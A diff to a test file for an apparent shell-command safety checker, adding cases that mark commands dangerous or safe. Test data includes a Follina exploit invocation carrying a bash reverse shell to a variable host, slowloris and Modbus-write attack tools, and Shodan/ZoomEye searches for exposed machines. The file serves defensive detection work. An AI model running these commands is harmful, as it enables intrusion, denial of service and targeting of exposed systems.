@@ -2937,7 +2937,8 @@ describe('the seventieth to seventy-third sets: vehicle buses and Bluetooth, ind
     ['python generate_bruteforce_tests.py', false],
     ['python slowloris.py', true, 'attack tool'],
     ['python ModBusWrite.py', true, 'attack tool'],
-    ['shodan search --fields ip_str,port siemens', false],
+    ['shodan search --fields ip_str,port siemens', true, 'exposed machines'],
+    ['shodan parse --fields ip_str search.json.gz', false],
     ['shodan alert info home', false],
     ['shodan alert enable 34W09AETJKAHEDPX any', true, 'scan service'],
     ['shodan scan submit 198.51.100.7', true, 'scan service'],
@@ -4024,6 +4025,32 @@ describe('the fifteen sets held out last stop and the hundred-and-sixtieth and -
     ['net stop w32time', true, "machine's services"],
     ['install -Dm600 data/rules/* $(DESTDIR)/etc/opensnitchd/rules/', true, 'outside the workspace'],
     ['python3 follina.py -c "bash -c \'exec bash -i &>/dev/tcp/$RHOST/$RPORT <&1\'"', true, 'reverse shell'],
+  ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
+    const r = checkCommand(cmd, WS);
+    expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
+    if (reason) expect(r.reasons.join('; ')).toContain(reason);
+  });
+});
+
+describe('the twelve sets held out last stop: passwords on the command line, scan indexes, owners, publishing steps', () => {
+  it.each([
+    // A password given on the command line, or a user and a password together, signs in somewhere; a port after `-p` is no password.
+    ['odoomap -u https://example.com -D database_name -U admin -P pass -e', true, 'password given on its command line'],
+    ["python3 SCCMSecrets.py files -dp http://mecm.sccm.lab -u 'dave' -p 'dragon'", true, 'password given on its command line'],
+    ['cscli machines add agent_user_name --password agent_password', true, 'password given on its command line'],
+    ['./mkspiffs -u /tmp/data -p 256 -b 8192 -s 1028096 out.bin', false],
+    ['./client --user admin --password admin --url http://localhost:8080', false],
+    // A scan service's index searched or downloaded is a list of exposed hosts to go through; a result parsed stays here.
+    ["zoomeye search 'app:\"atlassian confluence\"' -num 800", true, 'exposed machines'],
+    ["shodan download vbullet-443 'html:\"vbulletin\" port:443'", true, 'exposed machines'],
+    ['shodan parse vbullet-443.json.gz --fields ip_str', false],
+    // Files given to another account; the user's own name read from the shell, or a group alone, is the user's to set.
+    ['chown www-data:www-data -R bootstrap/cache storage', true, 'another account'],
+    ['chown $(logname):$(logname) ./data/app.db', false],
+    ['chown :staff notes.txt', false],
+    // A package script whose `:` steps include publish or deploy.
+    ['npm run ci:publish:beta', true, 'publishes or deploys'],
+    ['npm run ci:build:beta', false],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
     expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
